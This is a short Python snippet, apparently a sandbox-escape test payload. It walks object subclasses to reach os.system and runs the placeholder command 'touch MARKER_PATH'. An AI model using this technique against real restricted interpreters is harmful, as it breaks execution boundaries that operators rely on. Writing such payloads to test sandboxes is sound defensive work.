for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == '_wrap_close':
        c.__init__.__globals__['system']('touch MARKER_PATH')
